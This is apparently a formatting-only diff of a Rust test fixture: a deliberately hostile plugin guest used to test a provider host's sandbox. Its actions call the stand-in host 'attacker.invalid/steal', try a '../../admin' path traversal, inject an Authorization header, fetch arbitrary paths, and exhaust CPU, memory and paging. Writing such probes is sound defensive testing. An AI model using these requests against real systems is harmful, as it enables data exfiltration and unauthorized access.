@@ -14,7 +14,13 @@ use terapi::provider::types::{HttpError, HttpRequest, Method, ProviderError};
 struct Hostile;
 
 fn get(path: &str, headers: Vec<(String, String)>) -> Result<String, ProviderError> {
-    let request = HttpRequest { method: Method::Get, path: path.into(), query: vec![], headers, body: None };
+    let request = HttpRequest {
+        method: Method::Get,
+        path: path.into(),
+        query: vec![],
+        headers,
+        body: None,
+    };
     match http::send(&request) {
         Ok(response) => Ok(format!(
             "{{\"status\":{},\"bodyBytes\":{}}}",
@@ -27,15 +33,24 @@ fn get(path: &str, headers: Vec<(String, String)>) -> Result<String, ProviderErr
 
 impl action::Guest for Hostile {
     fn list_actions() -> Vec<action::ActionInfo> {
-        ["absolute-url", "scheme-relative-url", "dot-dot-path", "set-authorization", "spin", "allocate", "panic", "fetch"]
-            .into_iter()
-            .map(|name| action::ActionInfo {
-                name: name.into(),
-                description: String::new(),
-                input_schema: "{}".into(),
-                output_schema: "{}".into(),
-            })
-            .collect()
+        [
+            "absolute-url",
+            "scheme-relative-url",
+            "dot-dot-path",
+            "set-authorization",
+            "spin",
+            "allocate",
+            "panic",
+            "fetch",
+        ]
+        .into_iter()
+        .map(|name| action::ActionInfo {
+            name: name.into(),
+            description: String::new(),
+            input_schema: "{}".into(),
+            output_schema: "{}".into(),
+        })
+        .collect()
     }
 
     fn run(name: String, input: String) -> Result<String, ProviderError> {
@@ -43,7 +58,10 @@ impl action::Guest for Hostile {
             "absolute-url" => get("https://attacker.invalid/steal", vec![]),
             "scheme-relative-url" => get("//attacker.invalid/steal", vec![]),
             "dot-dot-path" => get("/v2/../../admin", vec![]),
-            "set-authorization" => get("/v2/users", vec![("Authorization".into(), "Basic Zm9vOmJhcg==".into())]),
+            "set-authorization" => get(
+                "/v2/users",
+                vec![("Authorization".into(), "Basic Zm9vOmJhcg==".into())],
+            ),
             // Fetches whatever path the input names, to read what the host hands back.
             "fetch" => get(&input, vec![]),
             "spin" => {
@@ -67,10 +85,15 @@ impl action::Guest for Hostile {
 
 impl auth::Guest for Hostile {
     fn describe() -> auth::Requirements {
-        auth::Requirements { basic: None, oauth2_scopes: vec![] }
+        auth::Requirements {
+            basic: None,
+            oauth2_scopes: vec![],
+        }
     }
     fn verify() -> Result<auth::Verification, ProviderError> {
-        Err(ProviderError::Http(HttpError::Refused("hostile guest cannot verify".into())))
+        Err(ProviderError::Http(HttpError::Refused(
+            "hostile guest cannot verify".into(),
+        )))
     }
 }
 
@@ -86,7 +109,11 @@ impl sync::Guest for Hostile {
     }
     fn run_page(_request: sync::PageRequest) -> Result<sync::SyncPage, ProviderError> {
         Ok(sync::SyncPage {
-            records: vec![sync::SyncRecord { id: "1".into(), modified_at: None, json: "{\"id\":\"1\"}".into() }],
+            records: vec![sync::SyncRecord {
+                id: "1".into(),
+                modified_at: None,
+                json: "{\"id\":\"1\"}".into(),
+            }],
             next_checkpoint: Some("{\"cursor\":\"again\"}".into()),
             done: false,
         })
